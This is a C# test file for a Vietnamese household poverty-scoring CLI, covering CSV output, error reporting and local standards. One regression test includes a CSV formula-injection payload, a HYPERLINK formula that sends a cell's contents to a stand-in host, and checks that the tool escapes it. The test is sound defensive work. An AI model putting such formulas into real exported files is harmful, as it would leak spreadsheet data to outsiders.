using System.Text;

namespace GiamNgheo.Cli.Tests;

public class ScoreCommandTests
{
    [Fact]
    public void Writes_one_row_per_household_in_UTF8_with_BOM_starting_with_the_contract_columns()
    {
        using var work = new WorkFolder();
        var output = work.Path("ket-qua.csv");

        var run = CliRun.Of("score", work.WriteSurvey(), "--year", "2025", "--out", output);

        Assert.Equal(0, run.ExitCode);
        var bytes = File.ReadAllBytes(output);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var lines = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("ma_ho,phan_loai,so_chi_so_thieu_hut,diem_b2,chi_so_thieu_hut,chuan_ap_dung", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("H01,ngheo,3,30,bhyt;nuoc_sinh_hoat;nha_tieu,nd-07-2021,", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("H02,khong_ngheo,0,0,,nd-07-2021,", lines[2], StringComparison.Ordinal);
        Assert.Equal(3, lines.Length);
    }

    [Fact]
    public void Regression_result_csv_wrote_a_formula_household_code_raw_so_Excel_ran_it()
    {
        using var work = new WorkFolder();
        var output = work.Path("ket-qua.csv");
        var survey = work.WriteSurvey(extraHousehold: "\"=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Bấm\"\")\",nong_thon,2,900000,,,\n@SUM(A1:A9),nong_thon,2,900000,,,\n-17,nong_thon,2,900000,,,");

        var run = CliRun.Of("score", survey, "--year", "2025", "--out", output);

        Assert.Equal(0, run.ExitCode);
        var lines = File.ReadAllText(output, Encoding.UTF8).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Bấm\"\")\",", lines[3], StringComparison.Ordinal);
        Assert.StartsWith("\"'@SUM(A1:A9)\",", lines[4], StringComparison.Ordinal);
        Assert.StartsWith("-17,", lines[5], StringComparison.Ordinal);
    }

    [Fact]
    public void Prints_counts_and_rates_over_all_resident_households()
    {
        using var work = new WorkFolder();

        var run = CliRun.Of("score", work.WriteSurvey(), "--year", "2025", "--out", work.Path("out.csv"));

        Assert.Contains("Phường Ba Đình (00004)", run.Output, StringComparison.Ordinal);
        Assert.Matches(@"Hộ nghèo\s+1\s+1,00\s+4\s+1,00", run.Output);
        Assert.Contains("nd-07-2021", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void Bad_input_exits_with_2_lists_located_errors_and_writes_nothing()
    {
        using var work = new WorkFolder();
        var output = work.Path("ket-qua.csv");

        var run = CliRun.Of("score", work.WriteSurvey(extraHousehold: "H03,vung_cao,-1,abc,,,"), "--year", "2025", "--out", output);

        Assert.Equal(2, run.ExitCode);
        Assert.False(File.Exists(output));
        Assert.Empty(Directory.GetFiles(work.Root));
        Assert.Contains("Lỗi — sheet ho.csv, dòng 4, cột 2 (khu_vuc)", run.Error, StringComparison.Ordinal);
        Assert.Contains("dòng 4, cột 3 (so_nhan_khau)", run.Error, StringComparison.Ordinal);
        Assert.Contains("dòng 4, cột 4 (thu_nhap_binh_quan)", run.Error, StringComparison.Ordinal);
        Assert.Contains("Không ghi tệp kết quả", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Failed_run_leaves_an_earlier_result_file_untouched()
    {
        using var work = new WorkFolder();
        var output = work.Path("ket-qua.csv");
        File.WriteAllText(output, "earlier");

        var run = CliRun.Of("score", work.WriteSurvey(), "--year", "2024", "--out", output);

        Assert.Equal(2, run.ExitCode);
        Assert.Equal("earlier", File.ReadAllText(output));
        Assert.Contains("khác năm đã chọn (2024)", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Unreadable_file_exits_with_2_and_says_why()
    {
        using var work = new WorkFolder();
        var input = work.Path("phieu.xlsx");
        File.WriteAllText(input, "đây không phải bảng tính");

        var run = CliRun.Of("score", input, "--year", "2025", "--out", work.Path("out.csv"));

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("không phải tệp .xlsx hay .zip", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Missing_input_exits_with_2()
    {
        using var work = new WorkFolder();

        var run = CliRun.Of("score", work.Path("khong-co.xlsx"), "--year", "2025", "--out", work.Path("out.csv"));

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("Không tìm thấy", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Missing_year_is_a_usage_error()
    {
        using var work = new WorkFolder();

        var run = CliRun.Of("score", work.WriteSurvey(), "--out", work.Path("out.csv"));

        Assert.Equal(1, run.ExitCode);
    }

    [Fact]
    public void Local_standard_file_adds_a_local_classification()
    {
        using var work = new WorkFolder();
        var standard = work.Path("ha-noi.json");
        File.WriteAllText(standard, """
            { "id": "dia-phuong-01-thu", "name": "Chuẩn thử Hà Nội", "scope": { "kind": "province", "provinceCode": "01", "basedOn": "nd-07-2021" },
              "years": [ { "from": 2025, "to": 2025, "source": "thử", "confidence": "C1" } ],
              "incomeLine": { "rural": 2000000, "urban": 3000000, "source": "thử", "confidence": "C1" },
              "b1Threshold": null, "middleLiving": null,
              "deprivationCutoff": { "value": 3, "source": "thử", "confidence": "C1" },
              "b2PointsPerIndicator": { "value": 10, "source": "thử", "confidence": "C1" } }
            """);
        var output = work.Path("out.csv");

        var run = CliRun.Of("score", work.WriteSurvey(), "--year", "2025", "--out", output, "--local-standard", standard);

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("H02,khong_ngheo,0,0,,nd-07-2021,thanh_thi,3,thu_nhap,2500000,2000000,,can_ngheo,dia-phuong-01-thu,", File.ReadAllText(output), StringComparison.Ordinal);
    }
}
